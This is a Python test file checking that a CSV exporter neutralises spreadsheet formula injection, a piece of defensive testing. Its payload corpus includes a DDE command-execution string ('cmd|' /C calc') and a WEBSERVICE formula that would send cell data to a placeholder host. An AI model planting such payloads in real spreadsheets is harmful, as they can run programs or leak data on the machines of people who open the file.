"""Formulas in exported cells: whatever somebody typed, a spreadsheet shows it and does not run it."""

import csv
import io

import pytest

from core import csv_export

CORPUS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)",
    "=HYPERLINK(\"http://example.test\",\"look\")", "=cmd|' /C calc'!A0", "  =1+1", "\u3000＝1", "\ufeff=1",
    "=1+1\";=2", "\x00=1+1", "-", " \t=1+1", "\u00a0@SUM(A1)", "+44 118 496 0100", "-2+3+cmd|' /C calc'!A0",
    "=WEBSERVICE(\"http://example.test/\"&A1)", "\r\n＝1+1", "\t＠SUM(A1)",
]  # fmt: skip


def read_back(rows):
    return list(csv.reader(io.StringIO(csv_export.write(rows).decode("utf-8-sig"), newline="")))


@pytest.mark.catalogue("W5", part="partly")
@pytest.mark.parametrize("typed", CORPUS)
def test_a_formula_comes_out_as_text(typed):
    cell = read_back([["before", typed, "after"]])[0][1]
    assert cell.startswith("'")
    assert cell.replace("'", "") == typed.replace("\x00", "").replace("'", "")


INSIDE = ["a;=1+1", "a\t=1+1", "a\n=1+1", "a\r\n@SUM(A1)", 'a;"=1+1', 'a";"=1+1', "a; ＝1+1", 'a\n"" +1', "a;;-1"]


@pytest.mark.catalogue("W5", part="partly")
@pytest.mark.parametrize("typed", [*CORPUS, *INSIDE])
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_a_formula_does_not_start_a_cell_for_whoever_reads_other_separators(typed, delimiter):
    text = csv_export.write([["before", typed, "after"], ["next", typed, "last"]]).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]
    assert [cell for cell in cells if cell.strip(" \u00a0\u3000\ufeff").startswith(csv_export.STARTERS)] == []


@pytest.mark.catalogue("W5", part="partly")
@pytest.mark.parametrize("typed", ["RDG-26-0417K", "Sefton, Kaya", 'said "hello"', "two\nlines", "1,204", "é – 名", ""])
def test_ordinary_text_comes_out_as_it_went_in(typed):
    assert read_back([[typed, "next"]]) == [[typed, "next"]]


def test_numbers_and_nothing():
    assert read_back([[12, None, -3]]) == [["12", "", "'-3"]]


def test_every_cell_is_quoted_for_other_separators():
    assert csv_export.write([["a;b", "c"]]).decode("utf-8-sig") == '"a;b","c"\r\n'
